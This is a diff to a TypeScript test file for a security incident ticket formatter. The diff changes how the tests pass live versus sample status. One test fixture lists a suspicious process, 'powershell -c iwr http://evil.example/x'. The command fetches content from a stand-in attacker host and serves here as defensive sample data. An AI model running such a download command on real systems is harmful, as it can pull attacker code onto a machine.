@@ -3,6 +3,8 @@ import { aDetail, anAlert, anEntity, aRow } from '../../../../shared/contract/fi
 import { codeSpan, literal } from './markdown'
 import { ticketText } from './ticket'
 
+const live = { sample: false, file: null, fetchedAt: '2026-11-24T12:00:00.000Z' }
+
 const link = new URL('https://security.microsoft.com/incidents/41207?tid=t')
 
 describe('the text for a ticket', () => {
@@ -22,7 +24,7 @@ describe('the text for a ticket', () => {
         anEntity({ type: 'Ip', label: '203.0.113.7' }), anEntity({ type: 'Process', label: 'powershell -c iwr http://evil.example/x', verdicts: ['Suspicious'] }), anEntity({ type: 'File', label: 'clean.exe', verdicts: ['NoThreatsFound'] }),
       ],
       comments: [{ text: 'first', by: '', at: '' }, { text: 'Called the user.', by: 'Lidia', at: '2026-11-26T05:00:00Z' }],
-    }), link, 'live')).toBe(`### High · Password spray, then inbox rule
+    }), link, live)).toBe(`### High · Password spray, then inbox rule
 
 Incident \`41207\` · In progress · priority 87 · True positive / Phishing
 
@@ -52,11 +54,11 @@ Incident \`41207\` · In progress · priority 87 · True positive / Phishing
   })
 
   it('leaves out what is empty', () => {
-    expect(ticketText(aDetail({ summary: aRow({ id: '5', alerts: null, activeAlerts: null, severity: '', status: '' }) }), null, 'live')).toBe('### (no name)\n\nIncident `5`\n\n')
+    expect(ticketText(aDetail({ summary: aRow({ id: '5', alerts: null, activeAlerts: null, severity: '', status: '' }) }), null, live)).toBe('### (no name)\n\nIncident `5`\n\n')
   })
 
   it('marks sample data right after the name', () => {
-    const text = ticketText(aDetail({ summary: aRow({ id: '5', name: 'Password spray' }) }), null, 'sample')
+    const text = ticketText(aDetail({ summary: aRow({ id: '5', name: 'Password spray' }) }), null, { ...live, sample: true })
     expect(text.split('\n').slice(1, 4)).toEqual(['', '**Sample data.** XDR Desk generated this incident.', ''])
   })
 
@@ -64,7 +66,7 @@ Incident \`41207\` · In progress · priority 87 · True positive / Phishing
     const text = ticketText(aDetail({
       summary: aRow({ techniques: Array.from({ length: 17 }, (_, index) => `T${1000 + index}`) }), alerts: Array.from({ length: 12 }, (_, index) => anAlert({ title: `Alert ${index}` })),
       entities: [...Array.from({ length: 20 }, (_, index) => anEntity({ label: `203.0.113.${index}` })), ...Array.from({ length: 11 }, (_, index) => anEntity({ type: 'User', label: `user${index}` }))],
-    }), null, 'live')
+    }), null, live)
     expect(text).toContain('T1014 and 2 more\n')
     expect(text).toContain('`user9` and 1 more\n')
     expect(text.match(/^- .*Alert \d+$/gm)).toHaveLength(10)
